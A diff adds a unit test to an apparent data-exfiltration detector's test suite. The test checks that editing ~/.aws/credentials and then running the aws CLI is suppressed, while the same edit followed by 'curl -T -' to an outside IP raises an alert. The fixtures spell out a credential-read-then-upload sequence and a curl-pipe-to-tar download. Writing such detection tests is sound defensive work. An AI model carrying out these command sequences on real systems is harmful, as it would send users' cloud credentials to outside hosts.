@@ -172,3 +172,22 @@ def test_words_in_a_pipeline_are_not_binaries() -> None:
         execve(sh_c("curl -s http://x | tar xz", parent=shell, pid=612)),  # download, unpack
         execve(sh_c("cc -I/usr/include -L/usr/lib/gcc/ main.c", parent=shell, pid=613))])
     assert dets == []
+
+
+def test_editing_credentials_then_using_their_tool_is_suppressed() -> None:
+    """`vim ~/.aws/credentials`, then `aws s3 ls` from the same shell."""
+    shell = login_shell()
+    vim = proc("/usr/bin/vim.basic", "/home/alice/.aws/credentials", pid=601, uid=1000,
+               parent=shell)
+    aws = proc("/usr/local/bin/aws", "s3", "ls", pid=602, uid=1000, parent=shell)
+    curl = proc("/usr/bin/curl", "-T", "-", "http://203.0.113.9", pid=603, uid=1000,
+                parent=shell)
+    dets = run(DataExfilDetector(), [
+        open_file(vim, "/home/alice/.aws/credentials", ts=sec(0)),
+        connect(aws, "52.216.1.1", 443, ts=sec(20))])
+    assert len(dets) == 1 and dets[0].suppressed.entry == "data_exfil.credential_owners=aws"
+    # the same edit followed by curl is not excused
+    dets = run(DataExfilDetector(), [
+        open_file(vim, "/home/alice/.aws/credentials", ts=sec(0)),
+        connect(curl, "203.0.113.9", 80, ts=sec(20))])
+    assert len(alerts(dets)) == 1
